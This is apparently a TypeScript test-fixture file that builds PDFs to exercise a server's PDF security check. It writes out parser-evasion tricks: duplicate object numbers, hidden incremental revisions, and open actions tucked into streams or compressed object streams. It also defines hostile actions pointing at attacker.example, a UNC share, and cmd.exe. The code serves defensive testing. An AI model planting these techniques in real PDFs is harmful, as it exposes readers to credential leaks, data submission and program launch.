/**
 * PDFs written byte by byte the way an attacker would, to test the certification check
 * (server/src/files/pdf-structure.ts), and harmless ones made with pdf-lib. Objects are given by
 * number and body; each cross-reference lists the definition of a number the case chooses.
 */
import zlib from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';

export interface RawObject {
  number: number;
  /** What stands between `N 0 obj` and `endobj`. */
  body: string | Buffer;
}

const PAGES: RawObject = { number: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' };
const PAGE: RawObject = { number: 3, body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>' };
const catalog = (extra = ''): RawObject => ({ number: 1, body: `<< /Type /Catalog /Pages 2 0 R ${extra}>>` });
const SCRIPT = '<< /S /JavaScript /JS (app.launchURL\\("https://attacker.example"\\)) >>';

const definition = ({ number, body }: RawObject) =>
  Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]);

/** Objects written in order after `before`; the offsets are those of each definition, repeats included. */
function writeObjects(before: Buffer, objects: RawObject[]): { bytes: Buffer; offsets: [number, number][] } {
  const parts = [before];
  const offsets: [number, number][] = [];
  let at = before.length;
  for (const object of objects) {
    const written = definition(object);
    offsets.push([object.number, at]);
    parts.push(written);
    at += written.length;
  }
  return { bytes: Buffer.concat(parts), offsets };
}

/** A cross-reference table (one subsection per number) and trailer for `listed`, written after `body`. */
function withXrefTable(body: Buffer, listed: Map<number, number>, trailer: string): Buffer {
  const lines = ['xref', '0 1', '0000000000 65535 f '];
  for (const [number, offset] of [...listed].sort(([a], [b]) => a - b)) {
    lines.push(`${number} 1`, `${String(offset).padStart(10, '0')} 00000 n `);
  }
  const tail = `${lines.join('\n')}\ntrailer\n<< ${trailer} >>\nstartxref\n${body.length}\n%%EOF\n`;
  return Buffer.concat([body, Buffer.from(tail)]);
}

/** A whole file whose cross-reference points at the first definition of each number. */
export function pdfFile(objects: RawObject[], trailerExtra = ''): Buffer {
  const { bytes, offsets } = writeObjects(Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'), objects);
  const listed = new Map<number, number>();
  for (const [number, offset] of offsets) if (!listed.has(number)) listed.set(number, offset);
  const size = Math.max(...objects.map((object) => object.number)) + 1;
  return withXrefTable(bytes, listed, `/Size ${size} /Root 1 0 R ${trailerExtra}`);
}

/** An incremental update: `objects` appended, with a cross-reference listing only `listed` (all by default). */
export function appendRevision(base: Buffer, objects: RawObject[], listed?: number[]): Buffer {
  const previous = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(base.toString('latin1'))?.[1];
  const { bytes, offsets } = writeObjects(base, objects);
  const entries = new Map(offsets.filter(([number]) => !listed || listed.includes(number)));
  return withXrefTable(bytes, entries, `/Size 64 /Root 1 0 R /Prev ${previous}`);
}

/** One script-opening catalog, then a harmless one under the same number: the cross-reference picks the script. */
export const duplicateObjectNumber = (): Buffer => pdfFile([catalog(`/OpenAction ${SCRIPT} `), PAGES, PAGE, catalog()]);

/**
 * Revision 2 adds a script as the open action; revision 3 writes the plain catalog again without
 * listing it, so a reader following the cross-references runs revision 2's, and pdf-lib keeps revision 3's.
 */
export function laterRevisionOpenAction(): Buffer {
  const first = pdfFile([catalog(), PAGES, PAGE]);
  const second = appendRevision(first, [catalog(`/OpenAction ${SCRIPT} `)]);
  return appendRevision(second, [catalog(), { number: 4, body: '<< /Producer (Word) >>' }], [4]);
}

/** The action is object 5, written inside the data of stream 4; only the cross-reference points there. */
export function actionInsideAnotherStream(action = SCRIPT): Buffer {
  const hidden = `5 0 obj\n${action}\nendobj\n`;
  const stream = `<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`;
  const { bytes, offsets } = writeObjects(Buffer.from('%PDF-1.7\n'), [
    catalog('/OpenAction 5 0 R '),
    PAGES,
    PAGE,
    { number: 4, body: stream },
  ]);
  const streamAt = offsets[3]?.[1] ?? 0;
  const listed = new Map(offsets);
  listed.set(5, streamAt + '4 0 obj\n'.length + stream.indexOf('5 0 obj'));
  return withXrefTable(bytes, listed, '/Size 6 /Root 1 0 R');
}

/**
 * The action is object 5, compressed in object stream 6, which has no /Type: readers find it through the
 * cross-reference stream (object 7), pdf-lib's front-to-back reading does not decompress it.
 */
export function actionInObjectStream(): Buffer {
  const inside = `5 0 ${SCRIPT}`;
  const first = '5 0 '.length;
  const packed = zlib.deflateSync(Buffer.from(inside));
  const objectStream = Buffer.concat([
    Buffer.from(`<< /N 1 /First ${first} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream'),
  ]);
  const { bytes, offsets } = writeObjects(Buffer.from('%PDF-1.7\n'), [
    catalog('/OpenAction 5 0 R '),
    PAGES,
    PAGE,
    { number: 6, body: objectStream },
  ]);
  const at = new Map(offsets);
  const entry = (type: number, field: number, index: number) => {
    const row = Buffer.alloc(7);
    row.writeUInt8(type, 0);
    row.writeUInt32BE(field, 1);
    row.writeUInt16BE(index, 5);
    return row;
  };
  const rows = [
    entry(0, 0, 65535),
    entry(1, at.get(1) ?? 0, 0),
    entry(1, at.get(2) ?? 0, 0),
    entry(1, at.get(3) ?? 0, 0),
    entry(0, 0, 0),
    entry(2, 6, 0),
    entry(1, at.get(6) ?? 0, 0),
    entry(1, bytes.length, 0),
  ];
  const table = Buffer.concat(rows);
  const xref = Buffer.concat([
    Buffer.from(`7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length ${table.length} >>\nstream\n`),
    table,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${bytes.length}\n%%EOF\n`),
  ]);
  return Buffer.concat([bytes, xref]);
}

/** `count` tiny objects in an otherwise valid file: 236,000 make the 9 MB file of the security test. */
export function manyObjects(count: number): Buffer {
  const parts = [definition(catalog()), definition(PAGES), definition(PAGE)];
  for (let number = 4; number < count + 4; number++) parts.push(definition({ number, body: '<< /V [0 0 0 0] >>' }));
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts, Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n')]);
}

/** A one-page certificate made by pdf-lib, with `change` applied to its document before saving. */
export async function pdfLibCertificate(
  change: (document: PDFDocument) => void = () => {},
  useObjectStreams = true,
): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage().drawText('Certificate of training: Biscuit');
  change(document);
  return Buffer.from(await document.save({ useObjectStreams }));
}

export const openAction = (action: Record<string, unknown>) => (document: PDFDocument) =>
  document.catalog.set(PDFName.of('OpenAction'), document.context.obj(action as never));

/** An annotation on the first page: `fields` added to a link's rectangle. */
export const annotation = (fields: Record<string, unknown>) => (document: PDFDocument) => {
  const annot = document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 100], ...fields } as never);
  document.getPage(0).node.set(PDFName.of('Annots'), document.context.obj([document.context.register(annot)]));
};

export const HOSTILE_ACTIONS = {
  goToR: { S: 'GoToR', F: PDFString.of('\\\\203.0.113.7\\share\\certificate.pdf'), D: [0, 'Fit'] },
  uri: { S: 'URI', URI: PDFString.of('https://attacker.example/opened') },
  launch: { S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\cmd.exe') },
  submitForm: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://attacker.example/collect') } },
};

/** A certificate edited twice by pdf-lib as incremental updates: three revisions, nothing active. */
export async function harmlessRevisions(): Promise<Buffer> {
  const document = await PDFDocument.load(await pdfLibCertificate(undefined, false), { forIncrementalUpdate: true });
  document.getPage(0).drawText('Reviewed', { y: 100 });
  await document.commit();
  document.getPage(0).drawText('Signed', { y: 200 });
  document.catalog.set(PDFName.of('OpenAction'), document.context.obj([document.getPage(0).ref, 'Fit']));
  return Buffer.from(await document.commit());
}
